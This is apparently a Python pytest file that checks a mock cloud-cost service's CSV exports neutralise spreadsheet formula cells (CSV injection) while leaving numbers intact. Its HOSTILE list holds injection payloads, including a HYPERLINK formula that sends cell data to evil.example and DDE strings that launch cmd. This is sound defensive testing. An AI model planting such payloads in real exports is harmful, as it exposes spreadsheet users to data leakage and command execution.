"""CSV exports neutralise formula cells (OWASP CSV injection): a text cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``; numbers stay numbers.

Instance names and tag values come from customers' cloud accounts in the real service; the mock has
no API to write them, so the test plants them in the seeded fleet, as a cloud sync would."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime

import httpx
import pytest
import pytest_asyncio
from tensorcost_mock import MockApp, create_app

pytestmark = pytest.mark.asyncio

ACME = "3f6c2b9e-8d4a-4e7b-9c1d-2a5e8f7b6c01"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def app() -> MockApp:
    return create_app(seed=42, now=datetime(2026, 11, 26, 12, tzinfo=UTC), freeze_clock=True, strict=True)


@pytest_asyncio.fixture
async def client(app: MockApp) -> AsyncIterator[httpx.AsyncClient]:
    user = app.runtime.directory.by_email("ana.ruiz@acme-ai.com")
    assert user is not None
    headers = {"Authorization": f"Bearer {app.runtime.tokens.access_token(user, ACME)}"}
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1:4010", headers=headers) as c:
        yield c
    assert app.violations == []


async def export(client: httpx.AsyncClient, resource: str) -> list[dict[str, str]]:
    r = await client.get(f"/v1/report/exports/{resource}", params={"format": "csv"})
    assert r.status_code == 200, r.text[:300]
    return list(csv.DictReader(io.StringIO(r.content.decode("utf-8"), newline="")))


async def test_formula_cells_are_neutralised(client: httpx.AsyncClient, app: MockApp) -> None:
    fleet = list(app.runtime.store(ACME).collection("gpu_instances"))
    assert len(fleet) >= len(HOSTILE)
    for instance, name in zip(fleet, HOSTILE, strict=False):
        instance["name"] = name
    rows = {row["id"]: row for row in await export(client, "instances")}
    for instance, name in zip(fleet, HOSTILE, strict=False):
        assert rows[instance["id"]]["name"] == "'" + name
    # Every other cell is what it was: numbers stay numbers, plain text stays as it is.
    for instance in fleet:
        row = rows[instance["id"]]
        assert row["gpu_count"] == str(instance["gpu_count"])
        assert row["hourly_cost"] == instance["hourly_cost"]["amount"]
        assert row["region"] == instance["region"]


async def test_negative_amounts_stay_numbers(client: httpx.AsyncClient, app: MockApp) -> None:
    exported = {row["id"] for row in await export(client, "savings")}  # builds the ledger
    entry = next(e for e in app.runtime.store(ACME).collection("savings_ledger") if e["id"] in exported)
    entry["savings"]["amount"] = "-1234.50"
    rows = {row["id"]: row for row in await export(client, "savings")}
    assert rows[entry["id"]]["savings"] == "-1234.50"
    assert all(not row["savings"].startswith("'") for row in rows.values())


async def test_no_cell_of_any_export_starts_a_formula(client: httpx.AsyncClient, app: MockApp) -> None:
    for resource in ("instances", "cost", "ai-spend", "alerts", "metrics", "savings"):
        for row in await export(client, resource):
            for value in row.values():
                if value[:1] in ("=", "+", "@", "\t", "\r"):
                    pytest.fail(f"{resource}: a cell starts a formula: {value!r}")
                if value.startswith("-"):
                    float(value.replace(",", ""))  # only a plain negative number may start with '-'
